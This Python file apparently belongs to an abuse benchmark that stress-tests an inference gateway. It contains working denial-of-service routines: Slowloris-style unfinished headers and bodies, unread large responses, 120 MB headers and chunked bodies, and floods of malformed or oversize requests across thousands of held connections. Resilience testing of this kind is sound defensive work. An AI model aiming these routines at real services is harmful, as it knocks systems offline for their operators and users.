"""Clients of the gateway that are slow, huge or wrong, without any key: headers and bodies that
never come to an end, headers of 120 MB, answers that are not read, one bad request again and again.
"""

import resource
import select
import socket
import time
from collections import deque
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from urllib.parse import urlsplit

from wattline_bench.abuse.attack import SOURCE, Attack, Target
from wattline_bench.serving.load import SERVICE
from wattline_runtime.wire import MAX_ITEM_BYTES

CONNECTIONS = 4_200
"""Held open at a time: more than a gateway has places for."""
READERS = 64
REPEATERS = 8
REPEAT_EVERY_S = 0.02
"""On each connection: faster, they would measure the cores that they share with the gateway."""
MANY = 1_000
"""Requests on one connection."""
ANSWER_BYTES = 4096
"""More than an answer to these has."""
AGAIN_S = 1.0
"""After which a connection that was closed is opened once more."""
AT_ONCE = 100
"""Opened before answers are looked at."""
READER_EVERY_S = 0.1
"""What readers ask for is no flood: it is only never read."""
WAIT_S = 0.05
SPARE_FILES = 128
HUGE_BYTES = 120 * 1024 * 1024
PIECE = b"a" * 65_536

PATH = f"/v1/services/{SERVICE}/infer"
HALF = f"POST {PATH} HTTP/1.1\r\nhost: x\r\nx-a: a".encode()
NO_BODY = f"POST {PATH} HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n\r\n".encode()
CHUNKED = f"POST {PATH} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n".encode()
BAD = f"POST {PATH} HTTP/1.1\r\nhost: x\r\ncontent-length: 1\r\n\r\n{{".encode()
TOO_LARGE = MAX_ITEM_BYTES + 1
OVERSIZE = f"POST {PATH} HTTP/1.1\r\nhost: x\r\ncontent-length: {TOO_LARGE}\r\n\r\n".encode()
OVERSIZE += PIECE
LARGE = b'{"input":"' + b"x" * 900_000 + b'"}'
UNREAD = f"POST {PATH} HTTP/1.1\r\nhost: x\r\ncontent-length: {len(LARGE)}\r\n\r\n".encode() + LARGE


def half_headers(target: Target, until_s: float) -> int:
    """Connections whose headers never end."""
    return _hold(target, until_s, HALF, CONNECTIONS, every_s=AGAIN_S / CONNECTIONS)


def absent_bodies(target: Target, until_s: float) -> int:
    """Requests whose bodies never come."""
    return _hold(target, until_s, NO_BODY, CONNECTIONS, every_s=AGAIN_S / CONNECTIONS)


def slow_readers(target: Target, until_s: float) -> int:
    """Large answers that are not read."""
    return _hold(target, until_s, UNREAD, READERS, every_s=READER_EVERY_S, receive_bytes=4096)


def huge_headers(target: Target, until_s: float) -> int:
    """One header of 120 MB after the other."""
    return _pour(target, until_s, HALF, PIECE)


def huge_bodies(target: Target, until_s: float) -> int:
    """One body of 120 MB after the other, whose length is not announced."""
    return _pour(target, until_s, CHUNKED, b"%x\r\n%b\r\n" % (len(PIECE), PIECE))


def bad_bodies(target: Target, until_s: float) -> int:
    """The same body again and again, which is no JSON."""
    return _repeat(target, until_s, BAD, MANY)


def oversize_bodies(target: Target, until_s: float) -> int:
    """The same body again and again, which says that it is too large by a byte."""
    return _repeat(target, until_s, OVERSIZE, 1)


class _Held:
    """Connections that are kept open; those that the gateway closes are opened once more later."""

    def __init__(self, target: Target, said: bytes, due: list[float], receive_bytes: int) -> None:
        self._at = _address(target)
        self._said, self._receive_bytes = said, receive_bytes
        self._due: deque[float] = deque(due)
        self._poll = select.epoll()
        self._open: dict[int, socket.socket] = {}
        self._unsent: dict[int, memoryview] = {}
        self.tried = 0

    def open_due(self, now_s: float) -> None:
        """Open those whose time has come, a few at once."""
        for _ in range(AT_ONCE):
            if not self._due or self._due[0] > now_s:
                return
            self._due.popleft()
            self.tried += 1
            self._connect(now_s)

    def _connect(self, now_s: float) -> None:
        made = socket.socket()
        made.setblocking(False)
        if self._receive_bytes:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self._receive_bytes)
        try:
            made.bind((SOURCE, 0))
            with suppress(BlockingIOError):
                made.connect(self._at)
        except OSError:
            made.close()
            self._due.append(now_s + AGAIN_S)
            return
        self._open[made.fileno()] = made
        self._unsent[made.fileno()] = memoryview(self._said)
        self._poll.register(made.fileno(), select.EPOLLOUT)

    def wait(self, now_s: float) -> None:
        """Say what can be said, and see which were closed."""
        wait_s = min(WAIT_S, max(0.0, self._due[0] - now_s)) if self._due else WAIT_S
        for number, events in self._poll.poll(wait_s):
            if not self._goes_on(number, events):
                self._poll.unregister(number)
                self._open.pop(number).close()
                del self._unsent[number]
                self._due.append(now_s + AGAIN_S)

    def _goes_on(self, number: int, events: int) -> bool:
        if events & (select.EPOLLERR | select.EPOLLHUP):
            return False
        try:
            if events & select.EPOLLIN:
                return bool(self._open[number].recv(4096))
            unsent = self._unsent[number]
            self._unsent[number] = unsent[self._open[number].send(unsent) :]
        except BlockingIOError:
            return True
        except OSError:
            return False
        if not self._unsent[number]:
            self._poll.modify(number, 0 if self._receive_bytes else select.EPOLLIN)
        return True

    def close(self) -> None:
        """Close all."""
        for connection in self._open.values():
            connection.close()
        self._poll.close()


def _hold(
    target: Target,
    until_s: float,
    said: bytes,
    count: int,
    *,
    every_s: float,
    receive_bytes: int = 0,
) -> int:
    """Keep so many connections open that say this. `every_s`: between their first attempts;
    `receive_bytes`: they read no answer."""
    _allow_files(count + SPARE_FILES)
    first_s = time.monotonic()
    held = _Held(
        target, said, [first_s + number * every_s for number in range(count)], receive_bytes
    )
    while (now_s := time.monotonic()) < until_s:
        held.open_due(now_s)
        held.wait(now_s)
    held.close()
    return held.tried


def _repeat(target: Target, until_s: float, said: bytes, most: int) -> int:
    """Say this on some connections at a time, again with each answer, up to so often on each; how
    many requests were answered."""
    with ThreadPoolExecutor(REPEATERS) as pool:
        tried = [pool.submit(_repeat_on_one, target, until_s, said, most) for _ in range(REPEATERS)]
        return sum(one.result() for one in tried)


def _repeat_on_one(target: Target, until_s: float, said: bytes, most: int) -> int:
    tried = 0
    while time.monotonic() < until_s:
        with suppress(OSError), socket.create_connection(_address(target), 5.0, (SOURCE, 0)) as to:
            for _ in range(most):
                to.sendall(said)
                if time.monotonic() >= until_s or not to.recv(ANSWER_BYTES):
                    break
                tried += 1
                time.sleep(REPEAT_EVERY_S)
    return tried


def _pour(target: Target, until_s: float, begin: bytes, piece: bytes) -> int:
    """Say this and then pieces, up to 120 MB in a connection; how many connections."""
    tried = 0
    while time.monotonic() < until_s:
        tried += 1
        with suppress(OSError), socket.create_connection(_address(target), 5.0, (SOURCE, 0)) as to:
            to.sendall(begin)
            sent = 0
            while sent < HUGE_BYTES and time.monotonic() < until_s:
                to.sendall(piece)
                sent += len(piece)
    return tried


def _address(target: Target) -> tuple[str, int]:
    at = urlsplit(target.http_url or "")
    if at.hostname is None or at.port is None:
        raise ValueError(f"no gateway to attack at {target.http_url!r}")
    return at.hostname, at.port


def _allow_files(count: int) -> None:
    least, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    if most < count:
        raise OSError(f"{count} open files are needed, {most} are allowed (ulimit -n)")
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(least, count), most))


HTTP = (
    Attack("half-headers", half_headers, needs_gateway=True),
    Attack("absent-bodies", absent_bodies, needs_gateway=True),
    Attack("slow-readers", slow_readers, needs_gateway=True),
    Attack("huge-headers", huge_headers, needs_gateway=True),
    Attack("huge-bodies", huge_bodies, needs_gateway=True),
    Attack("bad-bodies", bad_bodies, needs_gateway=True),
    Attack("oversize-bodies", oversize_bodies, needs_gateway=True),
)
